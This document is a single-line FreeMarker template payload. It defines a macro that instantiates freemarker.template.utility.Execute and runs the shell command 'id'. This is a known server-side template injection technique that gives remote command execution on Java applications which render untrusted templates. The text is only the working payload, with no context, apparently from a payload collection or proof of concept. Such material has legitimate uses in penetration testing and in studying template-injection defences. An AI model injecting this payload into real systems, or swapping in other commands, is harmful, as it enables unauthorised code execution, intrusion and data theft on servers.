<#macro run cmd exec="freemarker.template.utility.Execute"?new()>${exec(cmd)}</#macro><@run cmd="id"/>
